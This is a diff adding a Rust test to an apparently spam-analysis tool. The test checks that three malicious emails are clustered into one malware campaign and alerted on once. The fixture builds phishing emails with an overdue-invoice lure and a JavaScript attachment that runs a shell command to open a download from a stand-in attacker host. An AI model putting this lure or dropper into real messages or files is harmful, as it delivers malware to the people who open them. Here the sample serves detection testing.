@@ -281,6 +281,108 @@ mod tests {
         Ok(())
     }
 
+    fn dropper(n: usize) -> Vec<u8> {
+        format!(
+            "From: billing{n}@invoices.example\r\nTo: user{n}@trap.example\r\n\
+             Subject: Invoice {n}4821 overdue\r\nMIME-Version: 1.0\r\n\
+             Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\
+             Content-Type: text/plain\r\n\r\nDear customer {n}, your invoice {n}4821 is overdue. \
+             Open the attached script to see the amount and pay it today please.\r\n--b\r\n\
+             Content-Type: application/octet-stream; name=\"invoice_{n}.js\"\r\n\
+             Content-Disposition: attachment; filename=\"invoice_{n}.js\"\r\n\r\n\
+             var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c start http://dl.evil.example/{n}');\r\n\
+             --b--\r\n"
+        )
+        .into_bytes()
+    }
+
+    #[test]
+    fn a_step_clusters_what_it_saved_and_raises_each_alert_once() -> Result<()> {
+        let dir = tempfile::tempdir()?;
+        let store = Store::open(store::StoreConfig::new(dir.path()))?;
+        let rt = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(1)
+            .enable_all()
+            .build()?;
+        let events = Arc::new(Recorder::default());
+        let wake = Arc::new(tokio::sync::Notify::new());
+        let worker = Worker::new(
+            store.clone(),
+            Arc::new(Engine::with_defaults()),
+            Arc::new(Enricher::none()),
+            events.clone(),
+            "test",
+        )
+        .with_clustering(Clustering {
+            thresholds: analysis::cluster::Thresholds::default(),
+            rules: Arc::new(analysis::warning::Rules::defaults()),
+            receivers: vec![
+                ("hook".into(), model::Severity::Low),
+                ("pager".into(), model::Severity::Critical),
+            ],
+            events: events.clone(),
+            outbox: Arc::clone(&wake),
+        });
+        let other = b"From: x@news.example\r\nSubject: weekly garden news\r\n\r\n\
+            Tulips bloom in spring and roses in summer, says the garden club newsletter.\r\n"
+            .to_vec();
+        for raw in [dropper(1), other, dropper(2), dropper(3)] {
+            let s = sighting(&raw);
+            store.capture(raw, s).wait()?;
+        }
+        assert_eq!(worker.try_analyze_next(rt.handle())?, Outcome::Analyzed(4));
+        let (live, merged, pending) = store.campaign_counts()?;
+        assert_eq!(
+            (live, merged, pending),
+            (2, 0, 0),
+            "one dropper campaign, one newsletter"
+        );
+        let campaigns = store.campaigns(&store::CampaignQuery::default())?;
+        let big = campaigns
+            .iter()
+            .find(|c| c.messages == 3)
+            .expect("the campaign of 3");
+        assert_eq!(big.verdict, model::VerdictClass::Malware);
+        let alerts = store.alerts(None, 100)?;
+        let fired: Vec<&str> = alerts.iter().map(|a| a.alert.rule.as_str()).collect();
+        assert_eq!(
+            fired
+                .iter()
+                .filter(|r| **r == "new-malware-campaign")
+                .count(),
+            1,
+            "once per campaign, though messages 2 and 3 both satisfy it: {fired:?}"
+        );
+        let malware = alerts
+            .iter()
+            .find(|a| a.alert.rule == "new-malware-campaign")
+            .expect("raised");
+        let receivers: Vec<&str> = malware
+            .deliveries
+            .iter()
+            .map(|d| d.receiver.as_str())
+            .collect();
+        assert_eq!(
+            receivers,
+            vec!["hook"],
+            "the pager only takes critical alerts"
+        );
+        let kinds: Vec<&str> = events
+            .0
+            .lock()
+            .map(|v| v.iter().map(|e| e.kind.id()).collect())
+            .unwrap_or_default();
+        assert_eq!(
+            kinds
+                .iter()
+                .filter(|k| **k == "spamhattan.campaign.created")
+                .count(),
+            2
+        );
+        assert!(kinds.contains(&"spamhattan.alert.raised"));
+        Ok(())
+    }
+
     /// The worker's enrichment wiring: authentication runs for the sighting's peer, its results
     /// land in the report and become findings. The nameserver here never answers (a bound UDP
     /// socket nobody reads), so every result is `temperror` once the short budget is spent.
